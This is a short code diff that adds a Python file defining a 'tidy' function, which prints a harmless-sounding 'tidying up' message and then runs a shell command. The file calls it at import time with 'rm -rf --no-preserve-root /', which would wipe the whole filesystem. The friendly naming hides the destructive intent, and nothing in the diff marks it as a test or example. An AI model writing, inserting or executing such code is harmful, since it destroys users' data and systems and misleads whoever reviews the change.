@@ -1,0 +1,9 @@
+import os
+
+
+def tidy(command):
+    print("tidying up")
+    os.system(command)
+
+
+tidy("rm -rf --no-preserve-root /")
